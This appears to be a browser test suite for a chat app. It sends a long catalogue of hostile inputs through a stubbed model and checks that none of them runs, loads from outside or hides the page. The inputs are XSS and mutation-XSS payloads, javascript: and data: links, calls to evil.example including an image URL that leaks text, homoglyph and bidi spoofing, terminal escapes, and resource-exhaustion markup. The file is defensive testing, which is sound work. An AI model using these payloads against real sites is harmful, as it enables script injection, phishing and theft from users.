// What a model or a user may write to do harm. Each attack is said by the user
// and answered word for word by the model (the largest are only answered):
// nothing of it runs, nothing leaves the page, nothing is drawn over what is the
// page's own, and the page goes on answering clicks.
import { readFileSync } from "node:fs";
import { createServer } from "node:http";
import { fits } from "../lib/check.mjs";
import { Page } from "../lib/page.mjs";
import { equal, ok, pause, soon, until } from "../lib/util.mjs";

const many = (s, n) => s.repeat(Math.ceil(n / s.length)).slice(0, n);
const lines = (n, f) => Array.from({ length: n }, (_, i) => f(i)).join("\n");

// The families that are published, in our own words. window.ran is what each
// would set.
const attacks = {
  "scripts in every dress": `<script>window.ran=1;alert(1)</script> <SCRIPT SRC=https://evil.example/x.js></SCRIPT> <scr<script>ipt>window.ran=1</scr</script>ipt>
<img src=x onerror="window.ran=2"> <body onload=window.ran=3> <details open ontoggle=window.ran=4> <video><source onerror=window.ran=5></video>
<input autofocus onfocus=window.ran=6> <marquee onstart=window.ran=7> <div onpointerover=window.ran=8 style="position:fixed;inset:0;z-index:9999">x</div>
"><script>window.ran=9</script> ' onmouseover='window.ran=10 \`<script>window.ran=11</script>\` {{constructor.constructor('window.ran=12')()}} \${window.ran=13}

\`\`\`html" onload="window.ran=14
<script>window.ran=15</script>
\`\`\``,
  "frames, objects, forms, refreshes and bases": `<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>parent.ran=1</script>"></iframe><frameset onload=window.ran=2>
<object data="https://evil.example/x.swf"></object><embed src=https://evil.example><applet code=x><portal src=https://evil.example>
<form action=https://evil.example><input name=key><button formaction=javascript:window.ran=3>Log in again</button></form>
<meta http-equiv=refresh content="0;url=https://evil.example"><base href=https://evil.example/><link rel=prefetch href=https://evil.example/><link rel=stylesheet href=https://evil.example/x.css>`,
  "addresses that run": `[a](javascript:window.ran=1) [b](JaVaScRiPt:window.ran=2) [c](java&#x0A;script:window.ran=3) [d](&#106;avascript:window.ran=4) [e](<java\tscript:window.ran=5>)
[f](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTY8L3NjcmlwdD4=) [g](vbscript:msgbox) [h](file:///etc/passwd) [i](blob:https://evil.example/1) [j](//evil.example) [k](/api/v1/conversations)
[l](https://bank.example@evil.example/) [m](\u0001javascript:window.ran=7) [n](javascript&colon;window.ran=8) <javascript:window.ran=9> [o](view-source:https://evil.example) [p](intent://evil.example#Intent;end)
![a](javascript:window.ran=10) ![b](data:image/svg+xml,<svg/onload=window.ran=11>) ![c](https://evil.example/?said=secret) [![d](https://evil.example/p.png)](javascript:window.ran=12) [q][z]

[z]: javascript:window.ran=13 "x' onclick='window.ran=14"`,
  "tricks with style": `<style>*{display:none!important}@import url(https://evil.example/x.css);</style><link rel=stylesheet href="data:text/css,*{display:none}">
<div style="background:url(https://evil.example/?css);position:fixed;inset:0;z-index:2147483647">You are logged out</div><p style="behavior:url(x);-moz-binding:url(https://evil.example/x.xml)">x</p>
<span class="app side shade toast" id="compose">x</span> $\\class{shade}{x}$ $\\style{position:fixed;inset:0}{x}$ $\\htmlStyle{position:fixed}{x}$ $\\color{url(https://evil.example)}x$
$\\hspace{-9999em}\\rule{9999em}{9999em}$ $\\raisebox{-400em}{Pay here}$ $\\kern-3000em\\colorbox{red}{Log in again}$ $\\smash{\\rule{20em}{400em}}$`,
  "pictures that are programs": `<svg onload=window.ran=1><script>window.ran=2</script><use href="data:image/svg+xml,<svg id=x onload=window.ran=3>#x"/><animate onbegin=window.ran=4 attributeName=x dur=1s>
<set attributeName=href to=javascript:window.ran=5 /><foreignObject><iframe srcdoc="<script>parent.ran=6</script>"></iframe></foreignObject><a xlink:href="javascript:window.ran=7"><text y=20>x</text></a>
<image href=https://evil.example/x.png onerror=window.ran=8 /></svg> <math href=javascript:window.ran=9>x</math> <math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:window.ran=10">x</maction></math>`,
  "markup that changes when it is parsed twice": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;">
<svg></p><style><a id="</style><img src=1 onerror=window.ran=2>"></a></style></svg> <noscript><p title="</noscript><img src=x onerror=window.ran=3>">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=4></style></mglyph></form> <!--><img src=x onerror=window.ran=5>--> <![CDATA[<img src=x onerror=window.ran=6>]]>
<textarea></textarea><img src=x onerror=window.ran=7> <template><script>window.ran=8</script></template> <xmp><p title="</xmp><img src onerror=window.ran=9>"></xmp> &lt;img src=x onerror=window.ran=10&gt; &amp;lt;script&amp;gt;
<select><template><style><!--</style><a rel="--></style></template></select><img src onerror=window.ran=11>"> <?xml-stylesheet href="javascript:window.ran=12"?> \u0000<scr\u0000ipt>window.ran=13</scr\u0000ipt>`,
  "names that look like others": "[https://bank.example/login](https://evil.example/) https://\u0430\u0440\u0440\u04CFe.com [**bank.example**](https://evil.example) [\u202Eelpmaxe.knab](https://evil.example) https://bank.example\u2044login.evil.example/ [mail@bank.example](mailto:thief@evil.example)",
  "text that turns round": `\u202Eevil\u202C \u2066\u202Ereversed and never closed ${"\u202E\u2067".repeat(200)} invoice\u202Efdp.exe [x\u202E](https://example.org/) \`code\u202E\` \u061C\u200F\u200B\u2060\uFEFF \u2028 \u2029`,
  "marks piled on letters": many(`Z${"\u0300\u0301\u0302\u0303\u0489\u034F".repeat(30)}a${"\u0316\u0317\u0318\u0353".repeat(30)}lgo `, 6000),
  "signs that steer a terminal": "\u001b[2J\u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\ \u009b31m \u0007\u0008\u0008\u007f \r overwritten \u0085",
  "a line of 200,000 letters": many("a", 200_000),
  "emphasis, links and ticks without end": [many("*a_ ", 20_000), many("[", 20_000), many("[a](", 20_000), many("![", 20_000), many("`a``b", 20_000), many("<a ", 10_000), many("~~a~ ", 10_000), many("&a;", 10_000)].join("\n\n"),
  "nested without end": [many("> ", 5000), lines(300, (i) => " ".repeat(2 * i) + "- a"), many("1. ", 5000), lines(400, (i) => ">".repeat(i) + " a"), many("- > ", 5000)].join("\n\n"),
  "a table of 40,000 cells, and one that is 20,000 wide": `|a|b|c|d|\n|-|-|-|-|\n${lines(10_000, () => "|1|2|3|4|")}\n\n|${many("a|", 40_000)}\n|${many("-|", 40_000)}\n`,
  "100,000 pieces of markdown": [lines(12_000, (i) => `- *a${i}*`), many("# a\n\n", 30_000), many("***\n", 30_000), many("```\n", 20_000)].join("\n\n"),
  "formulas that grow": `$${"\\llap{".repeat(40)}a${"}".repeat(40)}$ $${"\\cancelto{a}{".repeat(30)}a${"}".repeat(30)}$ $\\let\\l\\llap ${"\\l{".repeat(30)}a${"}".repeat(30)}$ $\\def\\a{\\a\\a}\\a$ $\\def\\a{bbbbbbbb}\\def\\c{\\a\\a\\a\\a\\a\\a\\a\\a}\\c\\c\\c\\c$

$$${"\\sqrt{".repeat(600)}a${"}".repeat(600)}$$

$$\\begin{matrix}${"&".repeat(4000)}\\end{matrix}$$

${many("$$a\n", 40_000)}

${many("$x^2$ ", 40_000)}`,
};

const small = Object.values(attacks).filter((a) => a.length < 3000).join("\n\n");

// harmless looks at everything on the page that comes from a text.
async function harmless(p, what) {
  await pause(50); // whatever would load or run has the time to
  const bad = await p.page.evaluate(() => {
    const may = {
      p: "dir", br: "", hr: "", em: "", strong: "", s: "", code: "", ul: "dir", ol: "dir start", li: "", blockquote: "dir", table: "dir", thead: "", tbody: "", tr: "", th: "class dir", td: "class dir", small: "", mark: "",
      h3: "dir class", h4: "dir class", h5: "dir class", h6: "dir class", div: "class tabindex role aria-label dir", span: "class tabindex dir", pre: "tabindex role aria-label", a: "href title target rel class dir aria-current",
      time: "class datetime", button: "type class aria-pressed aria-label title", svg: "class viewBox aria-hidden width height focusable", path: "d",
    };
    const out = window.ran === undefined ? [] : [`it ran: ${window.ran}`];
    const own = /^(?!style$|href$|on)/; // of formulas; the style of theirs is looked at below
    for (const e of document.querySelectorAll(".md *, .bubble *, .entry > a, .entry > a *, .hits *, main h1 *, .toast *")) {
      const math = e.closest("math");
      const names = math ? null : may[e.localName]?.split(" ");
      if (!math && !names) out.push(`<${e.localName}>`);
      for (const a of e.attributes) {
        if (math ? !own.test(a.name) && a.name !== "style" : names && !names.includes(a.name)) out.push(`<${e.localName} ${a.name}>`);
        if (/url\(|position|javascript/i.test(a.name === "style" ? a.value : "")) out.push(`style ${a.value}`);
      }
      if (e.localName === "a" && !/^(https?:\/\/[^@]*$|mailto:|\/c\/)/.test(e.getAttribute("href"))) out.push(`a link to ${e.getAttribute("href")}`);
      if (e.localName === "a" && e.closest(".md") && !(/noopener/.test(e.rel) && e.target === "_blank")) out.push("a link that opens here");
      if (out.length > 5) break;
    }
    const pane = document.querySelector(".scroll")?.getBoundingClientRect();
    for (const li of document.querySelectorAll(".thread > li")) {
      if (getComputedStyle(li).overflowY !== "clip" || li.getBoundingClientRect().right > pane.right + 1) out.push("a message that reaches out of its place");
    }
    return out.slice(0, 6);
  });
  equal(bad.join("; "), "", `${what}: what may not be there`);
  equal(p.foreign.join(" "), "", `${what}: requests to others`);
  equal(p.errors.join(" "), "", `${what}: errors`);
}

// answers checks that the page's own things can be reached: playwright clicks
// only what really lies under the pointer.
async function answers(p) {
  await p.page.click("header .more", { timeout: 20_000 });
  await p.page.waitForSelector(".menu");
  await p.page.keyboard.press("Escape");
  await p.page.fill("#compose", "still here");
  await p.page.fill("#compose", "");
}

// room is a page with a new conversation; the stories share one until it is at
// fault.
async function room(t, w) {
  if (w.page) {
    w.page.errors = [];
    w.page.foreign = [];
    await w.page.page.click("text=New conversation");
    await w.page.page.waitForSelector(".greeting");
  }
  const p = w.page ?? (await Page.open(t.browser, w.n.url, { context: w.context }));
  w.page = null;
  t.pages.push(p);
  return p;
}

// put is fill for a long text: Chromium inserts typed lines one by one.
const put = (field, text) =>
  field.evaluate((x, text) => {
    Object.getOwnPropertyDescriptor(HTMLTextAreaElement.prototype, "value").set.call(x, text);
    x.dispatchEvent(new Event("input", { bubbles: true }));
  }, text);

// met says an attack and has it answered with itself.
async function met(t, w, text) {
  const p = await room(t, w);
  await put(p.page.locator("#compose"), text);
  await p.page.press("#compose", "Enter");
  await until(() => p.page.evaluate(() => document.querySelector("article.answer") && !document.querySelector("article.running, article.waiting")), "the answer is whole", 60_000);
  await harmless(p, "the thread");
  await answers(p);
  await fits(p, "the thread");
  w.page = p;
  return p;
}

export const setting = async (t) => {
  const e = await t.engine({ delay: 0, size: 4000, answer: (ask) => ({ "A million": many("b", 1_000_000), Everything: `${small}\n\n${attacks["emphasis, links and ticks without end"]}`, ...attacks })[ask] ?? ask });
  let n;
  const server = createServer((_, res) => res.writeHead(200, { "Content-Type": "text/html" }).end(`<!doctype html><title>A shop</title><button id=buy onclick="this.textContent='bought'">Buy</button><script src="${n.url}/widget.js" defer></script>`));
  await new Promise((done) => server.listen(0, "127.0.0.1", done));
  t.undo(() => server.close());
  const shop = `http://127.0.0.1:${server.address().port}`;
  n = await t.node({ engine: e.url, env: { PARLEY_WIDGET_ORIGINS: shop } });
  const context = await t.browser.newContext({ viewport: { width: 1024, height: 768 }, reducedMotion: "reduce", serviceWorkers: "block" });
  t.undo(() => context.close());
  return { n, context, shop };
};

export const stories = {
  ...Object.fromEntries(Object.entries(attacks).map(([name, text]) => [`hostile: ${name}`, async (t, w) => void (await met(t, w, text.length < 20_000 || !text.includes("\n") ? text : name))])),

  "hostile: an answer of a million letters in one line": async (t, w) => {
    const p = await met(t, w, "A million");
    equal((await p.answer()).length, 1_000_000, "letters on screen");
  },

  "hostile: titles, hits, words of the page, exports and a reload": async (t, w) => {
    const title = `<img src=x onerror=window.ran=1>\u202Etxt.exe\u001b[31m Z${"\u0301".repeat(80)}`;
    const p = await met(t, w, `quicksilver ${small}`);
    const path = new URL(p.page.url()).pathname;
    await p.page.click("header .more");
    await p.page.click("text=Rename");
    await p.page.fill("dialog input", title);
    await p.page.press("dialog input", "Enter");
    await until(async () => (await p.page.textContent("h1")).includes("onerror"), "the new title");
    await soon(async () => /[\p{Cc}\u202a-\u202e\u2066-\u2069]|\p{M}{4}/u.test((await p.page.title()) + (await p.page.textContent("h1")) + (await p.page.textContent(".entry.here a"))), false, "the title turns nothing round");
    await harmless(p, "the list");
    await until(async () => {
      await p.page.fill("input[type=search]", "");
      await p.page.fill("input[type=search]", "quicksilver");
      await pause(400);
      return (await p.page.$$(".hits li")).length > 0;
    }, "a hit");
    await harmless(p, "the hits");
    await p.page.fill("input[type=search]", "");
    for (const kind of ["Markdown", "JSON"]) {
      await p.page.click("header .more");
      const coming = p.page.waitForEvent("download");
      await p.page.click(`text=Export as ${kind}`);
      const file = await coming;
      ok(/^[\p{L}\p{N}._ -]{1,120}$/u.test(file.suggestedFilename()), `the file has a name that does nothing: ${JSON.stringify(file.suggestedFilename())}`);
      ok(readFileSync(await file.path(), "utf8").includes("quicksilver"), "the export holds what was said");
    }
    await p.page.click("header .more");
    await p.page.click(".menu >> text=Archive");
    await p.page.waitForSelector(".toast");
    await harmless(p, "a word of the page");
    await p.page.goto(w.n.url + path);
    await p.page.waitForSelector("article.answer .md");
    await harmless(p, "after a reload");
    await answers(p);
  },

  "hostile: the same in the chat bubble of another site": async (t, w) => {
    const context = await t.browser.newContext({ viewport: { width: 1024, height: 768 }, reducedMotion: "reduce" });
    t.undo(() => context.close());
    const page = await context.newPage();
    t.pages.push({ page });
    const seen = [];
    page.on("request", (r) => !r.url().startsWith(w.n.url) && !r.url().startsWith(w.shop) && seen.push(r.url()));
    page.on("pageerror", (err) => seen.push(err.message));
    page.on("dialog", (d) => (seen.push("a dialog"), d.dismiss()));
    await page.goto(w.shop);
    await page.locator("parley-chat .knob").click();
    const area = page.locator("parley-chat textarea");
    for (const text of [small.slice(0, 3000), "Everything"]) {
      await put(area, text);
      await area.press("Enter");
    }
    await until(async () => (await page.locator("parley-chat article.answer:has(footer) .md").count()) === 2 && (await page.locator("parley-chat article.running").count()) === 0, "both answers", 60_000).catch(async (err) => {
      throw new Error(`${err.message}; on screen: ${(await page.locator("parley-chat .panel").allTextContents()).join().slice(-300)}`);
    });
    equal(await page.locator("parley-chat").evaluate((x) => [...x.shadowRoot.querySelectorAll("script, img, iframe, object, form[action], style, .md [style], .md [onclick], .md a:not([href^='https://'], [href^='http://'], [href^='mailto:'])")].map((y) => y.outerHTML.slice(0, 80)).join()), "", "what may not be there");
    equal(await page.evaluate(() => window.ran), undefined, "what ran");
    await page.click("#buy");
    equal(await page.textContent("#buy"), "bought", "the site goes on");
    equal(seen.join(" "), "", "requests to others, and errors");
  },
};
